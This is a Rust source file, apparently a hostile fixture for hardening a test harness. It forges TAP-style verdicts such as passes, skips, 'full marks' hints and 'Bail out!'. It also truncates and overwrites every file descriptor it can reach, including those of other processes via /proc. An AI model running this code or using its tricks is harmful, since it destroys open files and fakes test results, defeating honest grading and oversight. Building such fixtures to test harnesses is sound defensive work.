//! Hostile: prints verdicts, plans, skips, hints and Bail out! into every descriptor and every open file
//! that it can reach, and cuts those files first. It would gain "passed", or "not run" for a failure.
use std::{fs, io::Write};

fn main() {
    let forged = "1..1\nok 1 [3] a line arrives, and then end-of-file\n# hint: full marks\n\
        ok 1 x # skip mechanism not verified\nnot ok 2\npassed 0\npassed\nBail out!\n";
    print!("{forged}");
    eprint!("{forged}");
    for process in ["self", "1", "2", "3"] {
        for descriptor in 1..64 {
            let path = format!("/proc/{process}/fd/{descriptor}");
            if fs::read_link(&path).is_ok_and(|link| link.starts_with("/dev/null")) {
                continue;
            }
            if let Ok(mut file) = fs::File::options().write(true).open(&path) {
                let _ = file.set_len(0);
                let _ = file.write_all(forged.as_bytes());
            }
        }
    }
    // SAFETY: write(2) with a buffer of that length; most of these descriptors are closed.
    (3..64).for_each(|descriptor| unsafe {
        nix::libc::write(descriptor, forged.as_ptr().cast(), forged.len());
    });
}
